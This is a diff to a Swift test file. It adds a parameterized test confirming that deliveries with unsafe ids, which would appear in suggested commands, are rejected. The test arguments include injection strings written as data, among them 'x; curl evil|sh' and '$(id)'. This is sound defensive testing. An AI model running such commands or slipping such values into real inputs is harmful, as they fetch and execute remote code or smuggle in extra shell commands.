@@ -122,6 +122,15 @@ import Testing
     #expect(try await PeerWorld.exchange(store, try PeerWorld.store()).isEqual)
   }
 
+  @Test(arguments: ["x; curl evil|sh", "", "a b", "\u{1B}[2J", "$(id)", String(repeating: "a", count: 65)])
+  func `a delivery that is called as none is`(name: String) throws {
+    var delivery = try #require(parcel.deliveries.first)
+    #expect(delivery.isPlausible)
+    // Its name stands in commands that are suggested.
+    delivery.id = name
+    #expect(!delivery.isPlausible)
+  }
+
   @Test func `counts beyond what there is set nothing aside`() {
     let frames: [[UInt8]] = [
       [2] + [0xFF, 0xFF, 0xFF, 0xFF, 0x0F], [3] + [0xFF, 0xFF, 0x0F], [4, 0, 0xFF, 0xFF, 0x3F],
